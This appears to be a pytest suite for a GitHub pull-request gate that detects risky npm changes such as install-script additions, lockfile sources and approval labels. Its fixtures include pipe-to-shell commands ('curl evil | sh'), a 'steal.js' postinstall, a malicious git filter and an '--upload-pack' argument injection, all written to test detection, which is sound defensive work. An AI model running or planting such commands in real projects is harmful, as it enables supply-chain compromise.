"""Pull-request mode end to end: real git repos (base and head commits), real npm lockfiles made against
Verdaccio, the GitHub stand-in (PR files, comments, label events, permissions), entrypoint.py run as the
runner runs it."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from gatekeeper.context import GitHubRun
from gatekeeper.errors import ConfigError
from gatekeeper.modes.pull_request import PullRequestEvent, workspaces
from tests._support.github_server import GitHubServer
from tests._support.workspace import git
from tests.pr_support import (
    PrRepo,
    PrRun,
    PublishedDeps,
    comments,
    findings,
    published_deps,  # noqa: F401 - a fixture used by the lockfile tests
)

MARKER = "<!-- npm-gatekeeper -->"
POLICY = ".github/npm-gatekeeper.yml"


def manifest(name: str = "widget", version: str = "1.0.0", **extra: Any) -> dict[str, Any]:
    return {"name": name, "version": version, "main": "index.js", **extra}


def simple_repo(tmp_path: Path, base: dict[str, Any], head: dict[str, Any]) -> PrRepo:
    """Base and head each given as {path: content | None}; returns the published repo."""
    repo = PrRepo(tmp_path / "pr")
    for path, content in base.items():
        repo.write(path, content)
    repo.commit_base()
    repo.start_head()
    for path, content in head.items():
        repo.write(path, content)
    repo.commit_head()
    repo.publish()
    return repo


# ------------------------------------------------------------------------------------ manifests


def test_postinstall_added_blocks_with_comment_annotation_and_report(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), "index.js": "module.exports = 1;\n"},
        {"package.json": manifest(scripts={"postinstall": "node steal.js"}), "steal.js": "require('https');\n"},
    )
    pr = PrRun.create(repo, github_server)
    res = pr.run()
    assert res.returncode == 1, res.describe()
    assert res.report["decision"] == "block" and res.report["mode"] == "pull-request"
    assert res.report["gates"] == {"changes": "pass", "manifests": "fail", "lockfiles": "pass", "policy": "pass"}
    [f] = findings(res, "lifecycle-script-added")
    assert f["severity"] == "block" and f["file"] == "package.json"
    assert '"node steal.js"' in f["message"]
    lines = (repo.upstream / "package.json").read_text().splitlines()
    assert '"postinstall"' in lines[f["line"] - 1]
    errors = res.annotations("error")
    assert any(
        a.properties.get("file") == "package.json" and a.properties.get("line") == str(f["line"]) for a in errors
    )
    assert "changes what runs at install time" in res.summary
    assert res.report["pull_request"]["head_sha"] == repo.head
    assert res.outputs["decision"] == "block"
    # one comment, marked, created once
    [c] = comments(github_server, repo.number)
    assert c.body.startswith(MARKER) and "lifecycle-script-added" in c.body
    assert len(github_server.requests_to("POST", r"/issues/\d+/comments$")) == 1
    assert not github_server.requests_to("PATCH")


def test_rerun_updates_the_one_comment_in_place(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path, {"package.json": manifest()}, {"package.json": manifest(scripts={"preinstall": "curl x | sh"})}
    )
    pr = PrRun.create(repo, github_server)
    pr.pull.add_comment(MARKER + "\nquoted by someone else", "contributor")  # a user's comment is not ours
    assert pr.run().returncode == 1
    assert pr.run().returncode == 1
    ours = [c for c in comments(github_server, repo.number) if c.user.type == "Bot"]
    assert len(ours) == 1 and "lifecycle-script-added" in ours[0].body
    assert len(github_server.requests_to("POST", r"/issues/\d+/comments$")) == 1
    patches = github_server.requests_to("PATCH", r"/issues/comments/\d+$")
    assert len(patches) == 1 and patches[0].path.endswith(f"/{ours[0].id}")
    assert (
        "quoted by someone else" in next(c for c in comments(github_server, repo.number) if c.user.type != "Bot").body
    )


def test_clean_pr_passes_and_says_so(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), "index.js": "module.exports = 1;\n"},
        {"index.js": "module.exports = 2;\n", "README.md": "# widget\n"},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 0, res.describe()
    assert res.report["decision"] == "allow" and findings(res) == []
    [c] = comments(github_server, repo.number)
    assert "✅" in c.body.splitlines()[1]


def test_head_is_read_from_git_objects_never_checked_out_or_run(tmp_path: Path, github_server: GitHubServer):
    marker = tmp_path / "pwned"
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest()},
        {
            "package.json": manifest(scripts={"postinstall": f"touch {marker}", "prepare": f"touch {marker}"}),
            ".gitattributes": "* filter=evil\n",
        },
    )
    ws = repo.workspace
    assert git(ws, "cat-file", "-t", repo.base) == "commit"
    with pytest.raises(RuntimeError):
        git(ws, "cat-file", "-t", repo.head)  # not in the workspace before the run
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    assert git(ws, "cat-file", "-t", repo.head) == "commit"  # fetched by id
    assert git(ws, "rev-parse", "HEAD") == repo.base
    # the report (under node_modules/.cache, never packed), nothing else
    status = git(ws, "status", "--porcelain", "--untracked-files=all")
    assert status in ("", "?? node_modules/.cache/npm-gatekeeper/report.json")
    assert not marker.exists()
    assert json.loads((ws / "package.json").read_text()) == manifest()


def test_install_script_code_changed_blocks(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {
            "package.json": manifest(scripts={"postinstall": "node scripts/install.js"}),
            "scripts/install.js": "require('./helper');\n",
            "scripts/helper.js": "module.exports = 1;\n",
        },
        {"scripts/helper.js": "require('child_process').exec('curl evil | sh');\n"},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    [f] = findings(res, "install-script-code-changed")
    assert f["file"] == "scripts/helper.js" and f["line"] == 1
    assert "scripts/install.js" in f["message"]


def test_every_workspace_of_a_monorepo_is_compared(tmp_path: Path, github_server: GitHubServer):
    root = manifest("mono", private=True, workspaces=["packages/*"])
    repo = simple_repo(
        tmp_path,
        {
            "package.json": root,
            "packages/a/package.json": manifest("a"),
            "packages/b/package.json": manifest("b", bin={"b": "cli.js"}),
            "packages/b/cli.js": "#!/usr/bin/env node\n",
            "packages/b/node_modules/x/package.json": manifest("x"),
        },
        {
            "packages/a/package.json": manifest("a", scripts={"install": "node-gyp rebuild"}),
            "packages/b/package.json": manifest("b", bin={"b": "other.js"}),
            "packages/b/other.js": "#!/usr/bin/env node\n",
            "packages/b/node_modules/x/package.json": manifest("x", scripts={"postinstall": "x"}),
            "packages/c/package.json": manifest("c", dependencies={"evil": "github:evil/evil"}),
        },
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    by_rule = {(f["rule"], f["file"]) for f in findings(res)}
    assert ("lifecycle-script-added", "packages/a/package.json") in by_rule
    assert ("bin-changed", "packages/b/package.json") in by_rule
    assert ("dependency-source-changed", "packages/c/package.json") in by_rule
    assert not any("node_modules" in (f["file"] or "") for f in findings(res))
    [added] = findings(res, "lifecycle-script-added")
    assert added["message"].startswith("packages/a/package.json: ")
    assert '"install"' in (repo.upstream / "packages/a/package.json").read_text().splitlines()[added["line"] - 1]


def test_merge_base_not_moving_base_is_compared(tmp_path: Path, github_server: GitHubServer):
    """main gained a postinstall after the branch point: the PR does not remove it."""
    repo = PrRepo(tmp_path / "pr")
    repo.write("package.json", manifest())
    repo.commit_base()
    repo.start_head()
    repo.write("index.js", "module.exports = 3;\n")
    repo.commit_head()
    repo.write("package.json", manifest(scripts={"postinstall": "node ok.js"}))
    repo.advance_base()
    repo.publish()
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 0, res.describe()
    assert findings(res) == []
    assert res.report["pull_request"]["merge_base"] != repo.base


# ------------------------------------------------------------------------------------ policy from base


def test_head_that_approves_itself_in_the_policy_still_blocks(tmp_path: Path, github_server: GitHubServer):
    approve = "approve:\n  scripts:\n    postinstall: node steal.js\npull-request:\n  approval-label: ok\n"
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest()},
        {"package.json": manifest(scripts={"postinstall": "node steal.js"}), POLICY: approve},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    assert [f["severity"] for f in findings(res, "lifecycle-script-added")] == ["block"]
    [changed] = findings(res, "policy-changed")
    assert changed["severity"] == "warn" and changed["file"] == POLICY
    assert "base" in res.report["pull_request"]["policy"]


def test_base_policy_approval_is_exact(tmp_path: Path, github_server: GitHubServer):
    digest = hashlib.sha256(b"1;\n").hexdigest()
    policy = (
        f"approve:\n  scripts:\n    postinstall: node install.js\n  files: [{{path: install.js, sha256: {digest}}}]\n"
    )
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), POLICY: policy},
        {"package.json": manifest(scripts={"postinstall": "node install.js"}), "install.js": "1;\n"},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 0, res.describe()
    assert [f["rule"] for f in findings(res)] == ["approved-change", "approved-change"]

    other = simple_repo(
        tmp_path / "other",
        {"package.json": manifest(), POLICY: policy},
        {"package.json": manifest(scripts={"postinstall": "node install.js --all"})},
    )
    res = PrRun.create(other, github_server).run()
    assert res.returncode == 1
    assert "does not match" in findings(res, "lifecycle-script-added")[0]["message"]


def test_policy_rules_override_from_base_applies(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), POLICY: "rules:\n  lifecycle-script-added: warn\n"},
        {"package.json": manifest(scripts={"postinstall": "node x.js"})},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 0, res.describe()
    assert findings(res, "lifecycle-script-added")[0]["severity"] == "warn"


def test_broken_base_policy_fails_closed(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest(), POLICY: "nonsense: 1\n"}, {"index.js": "1;\n"})
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 2, res.describe()
    assert "unknown key" in res.report["error"] and res.report["decision"] == "block"


def test_missing_named_policy_fails_closed(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"index.js": "1;\n"})
    res = PrRun.create(repo, github_server).run(inputs={"policy": "ci/gate.yml"})
    assert res.returncode == 2 and "does not exist" in res.report["error"]


# ------------------------------------------------------------------------------------ label approval

LABEL_POLICY = "pull-request:\n  approval-label: install-scripts-approved\n"


def labelled_repo(tmp_path: Path) -> PrRepo:
    return simple_repo(
        tmp_path,
        {"package.json": manifest(), POLICY: LABEL_POLICY},
        {"package.json": manifest(scripts={"postinstall": "node build.js"})},
    )


@pytest.mark.parametrize("labeler", ["writer", "maintainer"])
def test_label_applied_by_a_writer_approves(tmp_path: Path, github_server: GitHubServer, labeler: str):
    pr = PrRun.create(labelled_repo(tmp_path), github_server)
    pr.pull.label("install-scripts-approved", labeler)
    res = pr.run("labeled", label="install-scripts-approved")
    assert res.returncode == 0, res.describe()
    [f] = findings(res, "lifecycle-script-added")
    assert f["severity"] == "warn" and f"@{labeler}" in f["message"]
    assert res.report["pull_request"]["approval_label"]["approved"] is True
    assert github_server.requests_to("GET", rf"/collaborators/{labeler}/permission$")


def test_label_applied_by_a_reader_does_not_approve(tmp_path: Path, github_server: GitHubServer):
    pr = PrRun.create(labelled_repo(tmp_path), github_server)
    pr.pull.label("install-scripts-approved", "reader")
    res = pr.run("labeled", label="install-scripts-approved")
    assert res.returncode == 1, res.describe()
    assert findings(res, "lifecycle-script-added")[0]["severity"] == "block"
    [ignored] = findings(res, "approval-label-ignored")
    assert "@reader" in ignored["message"] and "`read`" in ignored["message"]


def test_last_labeled_event_counts(tmp_path: Path, github_server: GitHubServer):
    """A writer labelled, someone removed it, a reader re-applied it: the reader's application counts."""
    pr = PrRun.create(labelled_repo(tmp_path), github_server)
    pr.pull.label("install-scripts-approved", "writer")
    pr.pull.unlabel("install-scripts-approved", "writer")
    pr.pull.label("install-scripts-approved", "reader")
    res = pr.run("labeled", label="install-scripts-approved")
    assert res.returncode == 1, res.describe()
    assert "@reader" in findings(res, "approval-label-ignored")[0]["message"]


def test_label_from_before_the_latest_push_does_not_approve(tmp_path: Path, github_server: GitHubServer):
    pr = PrRun.create(labelled_repo(tmp_path), github_server)
    pr.pull.label("install-scripts-approved", "writer")
    res = pr.run("synchronize")
    assert res.returncode == 1, res.describe()
    assert "before this run's `synchronize` event" in findings(res, "approval-label-ignored")[0]["message"]


def test_other_label_does_not_approve(tmp_path: Path, github_server: GitHubServer):
    pr = PrRun.create(labelled_repo(tmp_path), github_server)
    pr.pull.label("looks-good", "writer")
    res = pr.run("labeled", label="looks-good")
    assert res.returncode == 1, res.describe()
    assert findings(res, "approval-label-ignored") == []
    assert not github_server.requests_to("GET", r"/permission$")


# ------------------------------------------------------------------------------------ lockfiles (real npm)


def npm_repo(tmp_path: Path, deps: PublishedDeps, base_specs: list[str], head_specs: list[str]) -> PrRepo:
    """A package whose lockfile npm writes (against Verdaccio) at the base and at the head."""
    repo = PrRepo(tmp_path / "pr")
    repo.write("package.json", manifest())
    if base_specs:
        repo.npm("install", "--package-lock-only", *base_specs, env=deps.npm_env)
    repo.commit_base()
    repo.start_head()
    repo.npm("install", "--package-lock-only", *head_specs, env=deps.npm_env)
    repo.commit_head()
    repo.publish()
    return repo


def test_lockfile_dependency_with_install_script_blocks(
    tmp_path: Path,
    github_server: GitHubServer,
    published_deps: PublishedDeps,  # noqa: F811
):
    deps = published_deps
    repo = npm_repo(tmp_path, deps, [f"{deps.plain}@1.0.0"], [f"{deps.scripted}@1.0.0"])
    lock = repo.read_json("package-lock.json")
    assert lock["packages"][f"node_modules/{deps.scripted}"]["hasInstallScript"] is True
    res = PrRun.create(repo, github_server).run(registry=deps.registry)
    assert res.returncode == 1, res.describe()
    [f] = findings(res, "lockfile-install-script")
    assert f["file"] == "package-lock.json" and deps.scripted in f["message"]
    text = (repo.upstream / "package-lock.json").read_text().splitlines()
    assert '"hasInstallScript"' in text[f["line"] - 1]
    assert findings(res, "lockfile-source-changed") == []  # resolved from the configured registry
    dep_added = findings(res, "dependency-added")
    assert [d["severity"] for d in dep_added] == ["warn"]  # no version bump: reported, not blocking
    assert any(
        a.properties.get("file") == "package-lock.json" and a.properties.get("line") == str(f["line"])
        for a in res.annotations("error")
    )


def test_lockfile_update_that_adds_an_install_script_blocks(
    tmp_path: Path,
    github_server: GitHubServer,
    published_deps: PublishedDeps,  # noqa: F811
):
    deps = published_deps
    repo = npm_repo(tmp_path, deps, [f"{deps.plain}@1.0.0"], [f"{deps.plain}@1.1.0"])
    res = PrRun.create(repo, github_server).run(registry=deps.registry)
    assert res.returncode == 1, res.describe()
    [f] = findings(res, "lockfile-install-script")
    assert f"was {deps.plain}@1.0.0" in f["message"]


def test_lockfile_install_script_approved_in_base_policy(
    tmp_path: Path,
    github_server: GitHubServer,
    published_deps: PublishedDeps,  # noqa: F811
):
    deps = published_deps
    repo = PrRepo(tmp_path / "pr")
    repo.write("package.json", manifest())
    repo.write(POLICY, f"pull-request:\n  install-scripts: [{deps.scripted}@1.0.0]\n")
    repo.commit_base()
    repo.start_head()
    repo.npm("install", "--package-lock-only", f"{deps.scripted}@1.0.0", env=deps.npm_env)
    repo.commit_head()
    repo.publish()
    res = PrRun.create(repo, github_server).run(registry=deps.registry)
    assert res.returncode == 0, res.describe()
    [f] = findings(res, "lockfile-install-script")
    assert f["severity"] == "info" and "pull-request.install-scripts" in f["message"]


def test_lockfile_from_another_registry_is_a_source_change(
    tmp_path: Path,
    github_server: GitHubServer,
    published_deps: PublishedDeps,  # noqa: F811
):
    """The configured registry is the public one; the lockfile now resolves from elsewhere."""
    deps = published_deps
    repo = npm_repo(tmp_path, deps, [], [f"{deps.plain}@1.0.0"])
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    [f] = findings(res, "lockfile-source-changed")
    assert deps.registry.rstrip("/") in f["message"]


def test_lockfile_local_tarball_is_a_source_change(
    tmp_path: Path,
    github_server: GitHubServer,
    published_deps: PublishedDeps,  # noqa: F811
):
    deps = published_deps
    repo = PrRepo(tmp_path / "pr")
    repo.write("package.json", manifest())
    repo.commit_base()
    repo.start_head()
    vendor = repo.upstream / "vendor"
    vendor.mkdir()
    repo.write("vendor/pkg/package.json", manifest("vendored"))
    repo.npm("pack", "--pack-destination", str(vendor), cwd="vendor/pkg", env=deps.npm_env)
    repo.write("vendor/pkg/package.json", None)
    repo.npm("install", "--package-lock-only", "./vendor/vendored-1.0.0.tgz", env=deps.npm_env)
    repo.commit_head()
    repo.publish()
    res = PrRun.create(repo, github_server).run(registry=deps.registry)
    assert res.returncode == 1, res.describe()
    kinds = {f["rule"] for f in findings(res) if f["severity"] == "block"}
    assert kinds == {"lockfile-source-changed", "dependency-source-changed"}
    assert "file:" in findings(res, "lockfile-source-changed")[0]["message"]


def test_yarn_and_pnpm_lock_changes_are_reported(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), "yarn.lock": "# yarn lockfile v1\n"},
        {
            "yarn.lock": '# yarn lockfile v1\n\nleft-pad@^1.3.0:\n  version "1.3.0"\n',
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
        },
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 0, res.describe()
    got = {(f["file"], f["severity"]) for f in findings(res, "lockfile-changed")}
    assert got == {("yarn.lock", "warn"), ("pnpm-lock.yaml", "warn")}
    assert len(res.annotations("warning")) >= 2


def test_unreadable_head_lockfile_blocks(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), "package-lock.json": {"lockfileVersion": 3, "packages": {}}},
        {"package-lock.json": "{ not json"},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    [f] = findings(res, "manifest-unreadable")
    assert f["file"] == "package-lock.json"


# ------------------------------------------------------------------------------------ fail closed


def test_file_changed_per_api_but_not_in_git_is_an_error(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"index.js": "1;\n"})
    pr = PrRun.create(repo, github_server)
    pr.pull.add_file("packages/hidden/package.json", "added")
    res = pr.run()
    assert res.returncode == 2, res.describe()
    assert res.report["gates"]["changes"] == "error"
    assert "packages/hidden/package.json" in res.report["error"]
    [c] = comments(github_server, repo.number)
    assert "could not check" in c.body


def test_head_moved_since_the_event_is_an_error(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"index.js": "1;\n"})
    pr = PrRun.create(repo, github_server)
    pr.pull.head_sha = "f" * 40
    res = pr.run()
    assert res.returncode == 2 and "head is now ffffffffffff" in res.report["error"]


def test_github_api_down_is_an_error(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"package.json": manifest(scripts={"install": "x"})})
    pr = PrRun.create(repo, github_server)
    github_server.fail(r"/pulls/\d+$", 500, times=10)
    res = pr.run()
    assert res.returncode == 2, res.describe()
    assert "reading pull request #7 failed" in res.report["error"]


def test_comment_failure_keeps_the_verdict(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"package.json": manifest(scripts={"install": "x"})})
    pr = PrRun.create(repo, github_server)
    github_server.fail(
        r"/issues/\d+/comments$",
        403,
        times=10,
        method="POST",
        body={"message": "Resource not accessible by integration"},
    )
    res = pr.run(event_name="pull_request")
    assert res.returncode == 1, res.describe()
    assert any("pull-request comment" in w.message for w in res.annotations("warning"))
    assert "comment" not in res.report["pull_request"]


def test_not_a_pull_request_event_is_an_error(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(tmp_path, {"package.json": manifest()}, {"index.js": "1;\n"})
    res = PrRun.create(repo, github_server).run(event_name="push")
    assert res.returncode == 2 and "pull_request" in res.report["error"]
    assert not github_server.requests_to("POST")


def test_event_shas_are_validated() -> None:
    bad = {"pull_request": {"number": 1, "base": {"sha": "--upload-pack=x"}, "head": {"sha": "a" * 40}}}
    run = GitHubRun("pull_request", bad, "acme/widget", "", "", "", None, None, "", "", "")
    with pytest.raises(ConfigError, match=r"base\.sha"):
        PullRequestEvent.from_run(run)


def test_workspaces_skip_node_modules() -> None:
    tree = {p: None for p in ["package.json", "a/package.json", "a/node_modules/x/package.json", "b/readme"]}
    assert workspaces(tree) == ["", "a"]  # type: ignore[arg-type]


def test_code_beyond_the_size_limit_is_an_error(tmp_path: Path, github_server: GitHubServer):
    repo = simple_repo(
        tmp_path,
        {"package.json": manifest(), POLICY: "diff:\n  limits:\n    max-unpacked-bytes: 1000\n"},
        {"big.js": "/*" + "a" * 2000 + "*/\n"},
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 2, res.describe()
    assert res.report["gates"]["manifests"] == "error"
    assert "max-unpacked-bytes" in res.report["error"]


def test_unreadable_or_symlinked_head_package_json_blocks(tmp_path: Path, github_server: GitHubServer):
    repo = PrRepo(tmp_path / "pr")
    repo.write("package.json", manifest())
    repo.write("packages/a/package.json", manifest("a"))
    repo.write("elsewhere.json", manifest("x", scripts={"postinstall": "node x.js"}))
    repo.commit_base()
    repo.start_head()
    repo.write("package.json", '{"name": "widget", "scripts": {"postinstall": ')
    (repo.upstream / "packages/a/package.json").unlink()
    (repo.upstream / "packages/a/package.json").symlink_to("../../elsewhere.json")
    repo.commit_head()
    repo.publish()
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    got = {f["file"]: f["message"] for f in findings(res, "manifest-unreadable")}
    assert set(got) == {"package.json", "packages/a/package.json"}
    assert "not valid JSON" in got["package.json"] and "symlink" in got["packages/a/package.json"]


@pytest.mark.parametrize("layout", ["npm", "pnpm", "yarn"])
def test_a_lifecycle_script_change_in_any_workspace_package_is_caught_in_every_layout(
    tmp_path: Path, github_server: GitHubServer, layout: str
):
    """Issue 24, item 5: npm workspaces, a pnpm workspace (pnpm-workspace.yaml, `workspace:` ranges, no
    `workspaces` field) and yarn berry workspaces (.yarnrc.yml, `workspace:*`), packages two levels deep."""
    dep = {"npm": "^1.0.0", "pnpm": "workspace:^", "yarn": "workspace:*"}[layout]
    root: dict[str, Any] = manifest("mono", private=True)
    extra: dict[str, Any] = {}
    if layout == "pnpm":
        extra["pnpm-workspace.yaml"] = "packages:\n  - 'packages/**'\n  - apps/*\n"
        root["packageManager"] = "pnpm@10.12.1"
    else:
        root["workspaces"] = ["packages/*/*", "apps/*"]
    if layout == "yarn":
        extra[".yarnrc.yml"] = "nodeLinker: node-modules\n"
        root["packageManager"] = "yarn@4.9.2"
    base_ui = manifest("@mono/ui", scripts={"postinstall": "node setup.js"})
    repo = simple_repo(
        tmp_path,
        {
            "package.json": root,
            **extra,
            "packages/web/ui/package.json": base_ui,
            "packages/web/ui/setup.js": "console.log('ok');\n",
            "apps/site/package.json": manifest("site", private=True, dependencies={"@mono/ui": dep}),
        },
        {
            "packages/web/ui/package.json": manifest("@mono/ui", scripts={"postinstall": "node setup.js && node x.js"}),
            "packages/web/ui/x.js": "require('child_process').exec('curl evil | sh');\n",
            "apps/site/package.json": manifest(
                "site", private=True, dependencies={"@mono/ui": dep}, scripts={"preinstall": "node pre.js"}
            ),
        },
    )
    res = PrRun.create(repo, github_server).run()
    assert res.returncode == 1, res.describe()
    by_rule = {(f["rule"], f["file"]) for f in findings(res)}
    assert ("lifecycle-script-changed", "packages/web/ui/package.json") in by_rule, by_rule
    assert ("lifecycle-script-added", "apps/site/package.json") in by_rule, by_rule
